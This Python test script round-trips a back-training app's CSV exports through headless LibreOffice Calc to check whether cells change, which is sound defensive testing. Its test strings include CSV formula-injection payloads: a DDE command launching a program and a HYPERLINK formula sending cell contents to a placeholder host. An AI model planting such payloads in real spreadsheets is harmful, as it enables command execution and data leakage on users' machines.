"""Opens the CSV tables in LibreOffice Calc, saves them again, and says which cells it changed; exit code 1 where any.

    python scripts/csv_in_libreoffice.py [PERSON [DAYS]]

A simulated person's year (steady, 365 days), with the hardest texts there are written in. LibreOffice is started
without a window (Debian: ``apt-get install --no-install-recommends libreoffice-calc``), in a profile of its own, in
English and Danish, each as its import dialog stands at first and with "detect special numbers" ticked. A cell is
unchanged where the same text comes back; a truth value may come back as TRUE or FALSE, and a line break within a text
as LibreOffice's own.
"""

from __future__ import annotations

import csv
import io
import shutil
import subprocess
import sys
import tempfile
from collections.abc import Mapping
from pathlib import Path
from uuid import uuid4

from msgspec.structs import replace

from rygtraening import wiring
from rygtraening.cli.demo import fill
from rygtraening.domain.ports import Journal
from rygtraening.domain.record import AfterAnswers
from rygtraening.domain.weekly_record import SmallWin
from rygtraening.exchange.tables import files
from rygtraening.simulation.names import NAMES, STEADY

ENGLISH, DANISH = 1033, 1030
"""Microsoft's numbers of the languages, by which LibreOffice reads numbers and dates."""
UTF_8 = 76
HARD = (
    "=1+1",
    '=HYPERLINK("https://example.invalid?"&A1;"klik")',
    "+45 12 34 56 78",
    "-2 i dag",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r\n=cmd|' /C calc'!A0",
    "'allerede med apostrof",
    "＝１＋１",
    'med "citationstegn", komma; semikolon\nog en linje til',
    "æøå ÆØÅ – … 🙂 𝄞",
    "  mellemrum foran og bagved  ",
    "smile :-) =) 1+1=2",
)


def main() -> int:
    """Convert, compare, tell."""
    person, days = (sys.argv[1:] + [STEADY, "365"][len(sys.argv) - 1 :])[:2]
    if person not in NAMES or not days.isdecimal():
        print(__doc__)
        return 2
    office = shutil.which("soffice")
    if office is None:
        print("LibreOffice is not installed: apt-get install --no-install-recommends libreoffice-calc")
        return 2
    with tempfile.TemporaryDirectory(prefix="rygtraening-csv-") as folder:
        place = Path(folder)
        tables = exported(place / "data", person, int(days))
        source = place / "tables"
        source.mkdir()
        for name, content in tables.items():
            (source / name).write_bytes(content)
        changed = 0
        for language, word in ((ENGLISH, "English"), (DANISH, "Danish")):
            for special in (False, True):
                back = place / f"{word}-{special}"
                convert(office, source, back, place / "profile", language, special)
                found = [line for name in tables for line in differing(name, tables[name], (back / name).read_bytes())]
                cells = sum(len(row) for content in tables.values() for row in rows(content))
                how = "special numbers detected" if special else "as the dialog stands"
                print(f"{word}, {how}: {cells} cells in {len(tables)} tables, {len(found)} changed")
                print("".join(f"  {line}\n" for line in found[:20]), end="")
                changed += len(found)
    return 1 if changed else 0


def exported(data: Path, person: str, days: int) -> Mapping[str, bytes]:
    """The tables of the person's days, with the hard texts in them, by file name."""
    with wiring.open_core(data, None, wiring.open_settings(data)) as core:
        fill(core, days, 7, person)
        write_hard_texts(core.journal)
        return files(core.journal)[0]


def write_hard_texts(journal: Journal) -> None:
    """Each of the texts as a small win and as the note of a session."""
    answers = journal.facts(AfterAnswers)
    stamp = answers[-1].stamp
    for text, answer in zip(HARD, answers, strict=False):
        win = SmallWin(replace(stamp, id=uuid4()), str(uuid4()), text)
        journal.append(win, replace(answer, stamp=replace(stamp, id=uuid4(), day=answer.stamp.day), note=text))


def convert(office: str, source: Path, back: Path, profile: Path, language: int, special: bool) -> None:
    """Open each table of ``source`` and save it into ``back``, as somebody does who works in ``language``."""
    reading = f"CSV:44,34,{UTF_8},1,,{language},false,{str(special).lower()}"
    writing = f"csv:Text - txt - csv (StarCalc):44,34,{UTF_8},1,,{language},false,false,false"
    subprocess.run(
        [
            office,
            f"-env:UserInstallation={profile.as_uri()}",
            "--headless",
            f"--infilter={reading}",
            "--convert-to",
            writing,
            "--outdir",
            str(back),
            *map(str, sorted(source.glob("*.csv"))),
        ],
        check=True,
        capture_output=True,
        timeout=300,
    )


def rows(content: bytes) -> list[list[str]]:
    """The cells."""
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def differing(name: str, before: bytes, after: bytes) -> list[str]:
    """What is not as it was, a line each."""
    was, now = rows(before), rows(after)
    found = [] if len(was) == len(now) else [f"{name}: {len(was)} rows became {len(now)}"]
    for number, (left, right) in enumerate(zip(was, now, strict=False), start=1):
        cells = right + [""] * (len(left) - len(right))
        for column, old, new in zip(was[0], left, cells, strict=False):
            same = {old, old.replace("\r\n", "\n"), old.upper() if old in ("true", "false") else old}
            if new not in same:
                found.append(f"{name}, row {number}, {column}: {old!r} became {new!r}")
    return found


if __name__ == "__main__":
    sys.exit(main())
